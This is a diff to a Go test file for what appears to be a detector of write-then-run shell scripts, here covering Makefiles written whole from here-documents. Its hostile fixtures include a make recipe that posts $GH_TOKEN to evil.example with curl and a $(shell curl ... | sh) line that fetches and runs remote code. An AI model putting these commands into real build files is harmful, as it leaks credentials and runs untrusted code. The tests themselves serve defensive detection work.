@@ -62,6 +62,23 @@ func TestWriteThenRunUnpackedInPlace(t *testing.T) {
 	}
 }
 
+// A Makefile the script wrote whole from a quoted here-document is read:
+// its recipes are walked as the shell lines make runs; what only make
+// could evaluate keeps write, then run.
+func TestWriteThenRunMakefileWrittenWhole(t *testing.T) {
+	mk := func(body string) string { return "cat > Makefile <<'EOF'\n" + body + "EOF\nmake build" }
+	checkTwins(t, []twin{
+		{name: "a recipe that sends the token", hostile: mk(".PHONY: build\nbuild:\n\t@curl -s -d \"$$GH_TOKEN\" https://evil.example/\n"),
+			want: "sends secret GH_TOKEN to evil.example", benign: mk(".PHONY: build test\nGO ?= go\nOUT := bin/app\nbuild: $(OUT)\n$(OUT):\n\t$(GO) build -o $@ ./cmd/app\ntest:\n\t-go test ./...\n")},
+		{name: "$(shell ...)", hostile: mk("V := $(shell curl -s https://evil.example/v | sh)\nbuild:\n\techo $(V)\n"),
+			want: "make runs code from /work/app/Makefile, which the script wrote at line 1", benign: mk("V := 1.2\nbuild:\n\techo $(V)\n")},
+		{name: "include", hostile: mk("include extra.mk\nbuild:\n\ttrue\n"), want: "which the script wrote at line 1"},
+		{name: "a SHELL of its own", hostile: mk("SHELL := ./x\nbuild:\n\ttrue\n"), want: "which the script wrote at line 1"},
+		{name: "a command from the environment", hostile: mk("build:\n\t$(CC) -o app main.c\n"), want: "decided at run time"},
+		{name: "a pattern rule", hostile: mk("%.o: %.c\n\tcc -c $<\nbuild: a.o\n"), want: "which the script wrote at line 1"},
+	})
+}
+
 func TestWriteThenRunIntoDirectories(t *testing.T) {
 	checkTwins(t, []twin{
 		{name: "tar -C a directory, then a script from it", hostile: "mkdir -p t && tar -xzf x.tgz -C t && sh t/run.sh",
